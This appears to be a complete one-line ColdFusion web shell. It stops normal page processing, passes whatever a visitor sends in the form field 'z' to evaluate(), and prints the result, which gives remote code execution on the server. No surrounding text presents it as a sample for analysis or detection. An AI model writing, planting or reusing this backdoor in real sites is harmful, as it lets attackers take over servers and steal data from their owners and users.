<cfabort><cfoutput>#evaluate(form.z)#</cfoutput>
